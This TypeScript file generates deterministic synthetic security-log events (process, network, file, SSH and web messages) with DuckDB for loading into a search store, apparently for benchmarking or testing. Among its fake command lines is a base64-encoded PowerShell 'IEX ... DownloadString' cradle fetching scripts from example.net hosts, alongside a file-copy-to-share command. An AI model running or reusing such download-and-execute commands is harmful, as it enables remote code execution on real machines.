import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { openDuckDB } from '../../src/engines/duckdb/connection.ts';
import { sql, text } from '../../src/sql/sql.ts';
import { Store } from '../../src/store/store.ts';

const eventsPerFile = 250_000;

/**
 * Events with what the sample fleet has none of: process, file, network and log events with messages, URLs, encoded
 * commands, versions, and fields of several values. Everything comes from hashes of an event's number, so that the same
 * number of events is the same bytes.
 */
export async function* variedFiles(events: number, folder: string): AsyncGenerator<string> {
  await mkdir(folder, { recursive: true });
  const { connection, close } = await openDuckDB();
  await connection.run(sql`SET threads = 1`);
  for (const statement of macros) await connection.run(statement);
  for (let from = 0; from < events; from += eventsPerFile) {
    const path = join(folder, `events-${from}.ndjson`);
    const lines = `SELECT to_json(${document})::VARCHAR AS line FROM (SELECT i, h(i, 'host', 200) AS host, h(i, 'program', 60) AS program, h(i, 'kind', 10) AS kind FROM range(${from}, ${Math.min(events, from + eventsPerFile)}) t(i))`;
    await connection.run(
      `COPY (${lines}) TO ${text(path)} (FORMAT csv, HEADER false, QUOTE '', ESCAPE '', DELIMITER '\x01')`,
    );
    yield path;
  }
  close();
}

/** The lists that events are joined with: the owner of each host, and what is thought of thousands of users of hosts. */
const lists: readonly { readonly name: string; readonly rows: string; readonly properties: Record<string, string> }[] =
  [
    {
      name: 'assets',
      rows: `SELECT to_json({'host.name': 'host-' || i, owner: 'team-' || (i % 12), criticality: i % 4})::VARCHAR FROM range(150) t(i)`,
      properties: { 'host.name': 'keyword', owner: 'keyword', criticality: 'long' },
    },
    {
      name: 'sightings',
      // Of 100,000 pairs every twentieth, so that no pair comes twice.
      rows: `SELECT to_json({'host.name': 'host-' || (i // 25), 'user.name': 'user' || (i % 25 * 20 + i // 25 % 20), verdict: ['good', 'bad', 'odd'][i % 3 + 1], weight: i % 7})::VARCHAR FROM range(5000) t(i)`,
      properties: { 'host.name': 'keyword', 'user.name': 'keyword', verdict: 'keyword', weight: 'long' },
    },
  ];

/** The documents of each list. */
export async function listFiles(folder: string): Promise<{ name: string; path: string }[]> {
  const { connection, close } = await openDuckDB();
  const files = lists.map(({ name, rows }) => ({ name, rows, path: join(folder, `${name}.ndjson`) }));
  for (const { rows, path } of files)
    await connection.run(
      `COPY (${rows}) TO ${text(path)} (FORMAT csv, HEADER false, QUOTE '', ESCAPE '', DELIMITER '\x01')`,
    );
  close();
  return files.map(({ name, path }) => ({ name, path }));
}

/** Prepares a store for the lists: indices that can be looked up, and the policy by which ENRICH finds owners. */
export async function addLists(folder: string): Promise<void> {
  const store = await Store.open(folder);
  for (const { name, properties } of lists) {
    const typed = Object.entries(properties).map(([field, type]) => [field, { type }]);
    const mapping = { properties: Object.fromEntries(typed) };
    await store.exclusively((connection) =>
      store.createIndex(connection, name, { mapping, settings: { mode: 'lookup' } }),
    );
  }
  await store.putTemplate('enrich_policy', 'owners', {
    match: { indices: ['assets'], match_field: 'host.name', enrich_fields: ['owner', 'criticality'] },
  });
  await store.close();
}

const macros = [
  // A number below n for each event and purpose.
  `CREATE MACRO h(i, what, n) AS (hash(i, what) % n::UBIGINT)::BIGINT`,
  `CREATE MACRO pick(i, what, l) AS l[h(i, what, len(l)) + 1]`,
  `CREATE MACRO address(i, what) AS CASE h(i, what || '?', 6) WHEN 0 THEN '10.' || h(i, what, 4) || '.' || h(i, what || 'a', 256) || '.' || h(i, what || 'b', 256) WHEN 1 THEN '2606:4700::' || lower(to_hex(h(i, what, 65000) + 1)) ELSE h(i, what, 200) + 11 || '.' || h(i, what || 'c', 30) || '.' || h(i, what || 'a', 40) || '.' || h(i, what || 'b', 250) END`,
];

const path = `CASE program % 3 WHEN 0 THEN 'C:\\Windows\\System32\\' WHEN 1 THEN 'C:\\Program Files\\Vendor ' || program || '\\' ELSE 'C:\\Users\\user' || h(i, 'user', 500) || '\\AppData\\Local\\Temp\\' END`;
const name = `pick(program, 'name', ['powershell', 'cmd', 'rundll32', 'chrome', 'svchost', 'python', 'teams', 'certutil', 'wscript', 'agent']) || CASE WHEN program % 4 = 0 THEN '' ELSE program::VARCHAR END || '.exe'`;
const encoded = `to_base64(encode('IEX (New-Object Net.WebClient).DownloadString(''http://' || h(i, 'site', 90) || '.example.net/' || h(i, 'script', 5000) || '.ps1'')'))`;
const commandLine = `CASE h(i, 'command', 5) WHEN 0 THEN ${name} || ' -NoProfile -EncodedCommand ' || ${encoded} WHEN 1 THEN ${name} || ' /c "copy C:\\Users\\user' || h(i, 'user', 500) || '\\a' || h(i, 'file', 9999) || '.txt \\\\share\\out"' WHEN 2 THEN ${name} || ' --type=renderer --id=' || i || ' --port ' || h(i, 'port', 60000) ELSE ${name} || ' -k netsvcs -p -s Service' || h(i, 'service', 80) END`;
const url = `pick(i, 'scheme', ['http', 'https', 'https']) || '://' || CASE WHEN h(i, 'account', 20) = 0 THEN 'user:secret@' ELSE '' END || 'www' || h(i, 'site', 90) || '.example.' || pick(i, 'tld', ['com', 'net', 'co.uk']) || CASE WHEN h(i, 'portof', 5) = 0 THEN ':8080' ELSE '' END || '/path/' || h(i, 'page', 5000) || pick(i, 'ending', ['.html', '.php', '', '/a%20b.js']) || CASE WHEN h(i, 'query', 2) = 0 THEN '?q=' || h(i, 'q', 100000) || '&lang=en' ELSE '' END`;
const message = `CASE h(i, 'message', 6)
  WHEN 0 THEN 'Failed password for invalid user user' || h(i, 'user', 500) || ' from ' || address(i, 'from') || ' port ' || h(i, 'port', 60000) || ' ssh2'
  WHEN 1 THEN 'Accepted publickey for user' || h(i, 'user', 500) || ' from ' || address(i, 'from') || ' port ' || h(i, 'port', 60000) || ' ssh2'
  WHEN 2 THEN 'GET /index/' || h(i, 'page', 5000) || ' 200 ' || h(i, 'took', 900) || 'ms from ' || address(i, 'from')
  WHEN 3 THEN 'Service Service' || h(i, 'service', 80) || ' entered the ' || pick(i, 'state', ['running', 'stopped', 'paused']) || ' state'
  WHEN 4 THEN 'connection from ' || address(i, 'from') || ' closed after ' || h(i, 'took', 90000) || ' ms: ' || pick(i, 'why', ['timeout', 'reset by peer', 'done'])
  ELSE 'Process ' || ${name} || ' started by user' || h(i, 'user', 500) || ' with id ' || i END`;

/** Struct of DuckDB that becomes the JSON of an event. Nulls are left out by the reader. */
const document = `{
  '@timestamp': strftime(make_timestamp_ms(1773144000000 - h(i, 'time', 604800000)), '%Y-%m-%dT%H:%M:%S.%gZ'),
  data_stream: {type: 'logs', dataset: 'varied', namespace: 'default'},
  agent: {id: md5('agent' || host), version: '8.' || h(host, 'minor', 19) || '.' || h(host, 'patch', 12)},
  host: {name: 'host-' || host, ip: CASE WHEN host % 3 = 0 THEN ['10.20.' || host || '.2'] ELSE ['10.20.' || host || '.2', '127.0.0.1', 'fe80::' || lower(to_hex(host))] END,
    os: {type: CASE WHEN host % 20 < 12 THEN 'windows' WHEN host % 20 < 17 THEN 'linux' ELSE 'macos' END}},
  event: {category: CASE WHEN kind < 4 THEN ['process'] WHEN kind < 7 THEN ['network'] WHEN kind < 9 THEN ['file'] ELSE ['process', 'session'] END,
    action: pick(i, 'action', ['start', 'end', 'fork', 'connection_attempted', 'disconnect_received', 'creation', 'deletion', 'rename']),
    code: pick(i, 'code', ['1', '3', '11', '4624', '4625', '4688', '5156']), duration: h(i, 'duration', 10000000000), outcome: pick(i, 'outcome', ['success', 'success', 'failure'])},
  process: {name: ${name}, executable: ${path} || ${name}, command_line: ${commandLine}, args: string_split(${commandLine}, ' '), pid: h(i, 'pid', 65000),
    entity_id: to_base64(encode(host || '-' || h(i, 'entity', 3000))), hash: {sha256: sha256(${name} || host % 7)}, parent: {name: pick(i, 'parent', ['explorer.exe', 'services.exe', 'winword.exe', 'bash', 'cron'])}},
  user: {name: 'user' || h(i, 'user', 500), id: 'S-1-5-21-' || h(i, 'user', 500)},
  source: {ip: address(i, 'source'), port: 1024 + h(i, 'sport', 60000), bytes: CASE WHEN kind < 8 THEN h(i, 'sbytes', 5000000) END},
  destination: {ip: address(i, 'destination'), port: pick(i, 'dport', [443, 443, 443, 80, 53, 22, 3389, 8443]), bytes: h(i, 'dbytes', 100000)},
  url: {original: CASE WHEN h(i, 'url', 2) = 0 THEN ${url} END},
  dns: {question: {name: CASE WHEN kind = 6 THEN lower(to_hex(h(i, 'label', 100000000))) || '.www' || h(i, 'site', 90) || '.example.co.uk' END}},
  file: {path: CASE WHEN kind > 5 THEN ${path} || 'f' || h(i, 'file', 20000) || pick(i, 'extension', ['.txt', '.docx', '.exe', '.dll', '.ps1']) END, size: CASE WHEN kind > 5 THEN h(i, 'size', 50000000) END},
  message: ${message},
  tags: CASE h(i, 'tags', 4) WHEN 0 THEN ['prod', 'pci', 'site-' || host % 9] WHEN 1 THEN ['prod', 'site-' || host % 9] WHEN 2 THEN ['test'] END
}`;
